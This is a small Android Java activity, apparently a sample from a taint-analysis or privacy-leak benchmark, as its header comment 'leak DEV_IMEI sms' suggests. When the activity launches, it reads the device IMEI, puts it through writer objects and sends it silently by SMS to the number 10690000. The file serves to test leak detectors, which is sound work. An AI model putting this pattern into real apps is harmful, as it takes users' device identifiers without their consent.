// about       What the writer was given is read from it again; it writes a text.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.io.CharArrayWriter;
import java.io.IOException;
import java.io.StringWriter;
import java.io.Writer;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    Writer one = new StringWriter();
    Writer other = new CharArrayWriter();
    try {
      one.write("id ");
      one.append(phone.getDeviceId());
      other.write("none");
    } catch (IOException e) {
      finish();
    }
    SmsManager.getDefault().sendTextMessage("10690000", null, one.toString(), null, null);
  }
}
